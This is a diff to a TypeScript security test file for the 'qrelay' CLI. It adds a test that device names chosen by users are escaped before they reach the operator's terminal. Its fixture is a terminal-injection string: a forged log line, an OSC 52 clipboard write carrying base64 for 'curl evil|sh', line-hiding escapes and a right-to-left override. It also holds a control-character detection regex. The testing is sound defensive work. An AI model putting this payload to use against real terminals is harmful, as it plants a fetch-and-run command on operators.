@@ -1,7 +1,9 @@
 /**
- * Findings 64– (the operator's surface: the CLI, metrics, logs; docs/security/tokens-and-http-input.md):
+ * Findings 64, 65 (the operator's surface: the CLI, metrics, logs; docs/security/operator-surface.md):
  * - 64: `qrelay config show` prints every value a secret knob holds masked, the channel-ticket signing
- *   keys (`QRELAY_TICKET_SIGNING_JWKS`, private JWKs) included, and a Redis password however it is spelled.
+ *   keys (`QRELAY_TICKET_SIGNING_JWKS`, private JWKs) included, and a Redis password however it is spelled;
+ * - 65: a device name chosen by whoever signs in (control characters, terminal escapes, bidi controls)
+ *   reaches the operator's terminal through `qrelay device list` and `qrelay events tail` only escaped.
  */
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -11,6 +13,10 @@ import { afterAll, describe, expect, it, vi } from 'vitest'
 import { KNOBS } from '../../src/config.ts'
 import { KNOB_DOCS } from '../../src/config/knob-docs.ts'
 import { buildProgram } from '../../src/runtime/cli/main.ts'
+import { openSqlite, sqliteStore } from '../../src/adapters/durable/sqlite.ts'
+import { login, viaApp } from '../helpers/account-client.ts'
+import { fakeClock } from '../helpers/fake-clock.ts'
+import { makeApp } from '../helpers/make-app.ts'
 
 const dir = mkdtempSync(join(tmpdir(), 'qrelay-ops-'))
 afterAll(() => rmSync(dir, { recursive: true, force: true }))
@@ -65,5 +71,49 @@ describe('finding 64: config show masks every secret', () => {
     writeFileSync(file, 'QRELAY_REDIS_URL=redis://redis.internal:6379/0?password=hunter2&family=6\n')
     const shown = JSON.parse(await stdoutOf(['config', 'show', '--env-file', file, '--json'])) as Record<string, string>
     expect(shown.QRELAY_REDIS_URL).toBe('redis://redis.internal:6379/0?password=****&family=6')
+  })
+})
+
+/**
+ * A device name as a phisher (naming the device of a QR login) or any account holder (naming a
+ * password sign-in) may choose it: a forged line of `events tail`, an OSC 52 clipboard write, a clear-line
+ * and carriage return to hide what came before, an 8-bit CSI and a right-to-left override.
+ */
+const HOSTILE_NAME = 'Phone\n2026-12-07T08:00:00.000Z\talice\tpassword_changed\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2K\r\u009b2J\u202egnp.exe'
+/** Characters that make a terminal do something: C0 but for the tab and line feed (the output's own), DEL, C1, bidi controls. */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the control characters are what the output must not hold
+const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
+
+describe("finding 65: a name a client chose reaches the operator's terminal escaped", () => {
+  it('finding 65: device list and events tail print a hostile device name without its control characters', async () => {
+    const dataDir = join(dir, 'terminal')
+    // The CLI reads the feed at the real time: the app's clock starts there too.
+    const t = makeApp({ clock: fakeClock(Date.now()), durable: (clock) => sqliteStore({ db: openSqlite(dataDir), clock }) })
+    await t.auth.accounts.create('alice', 'correct horse battery staple')
+    await login(viaApp(t.app), 'alice', 'correct horse battery staple', undefined, HOSTILE_NAME)
+    vi.stubEnv('QRELAY_DATA_DIR', dataDir)
+    try {
+      for (const args of [
+        ['device', 'list', 'alice'],
+        ['events', 'tail', '--account', 'alice'],
+      ]) {
+        const plain = await stdoutOf(args)
+        expect(plain.split('\n'), args.join(' ')).toHaveLength(2)
+        expect(plain.slice(0, -1), args.join(' ')).not.toMatch(CONTROL)
+        expect(plain.slice(0, -1)).not.toContain('\n')
+        // The name is one field, its tab and line feed shown as escapes.
+        expect(plain).toContain('Phone\\n2026-12-07T08:00:00.000Z\\talice\\tpassword_changed\\u001b]52;c;')
+        expect(plain.split('\t')).toHaveLength(args[0] === 'device' ? 3 : 6)
+        const json = await stdoutOf([...args, '--json'])
+        expect(json.slice(0, -1), `${args.join(' ')} --json`).not.toMatch(CONTROL)
+        expect(json.slice(0, -1)).not.toContain('\n')
+        // The JSON still says exactly what is stored.
+        expect(json).toContain('password')
+        const parsed = JSON.parse(json) as unknown
+        expect(JSON.stringify(parsed)).toContain(JSON.stringify(HOSTILE_NAME).slice(1, -1))
+      }
+    } finally {
+      vi.unstubAllEnvs()
+    }
   })
 })
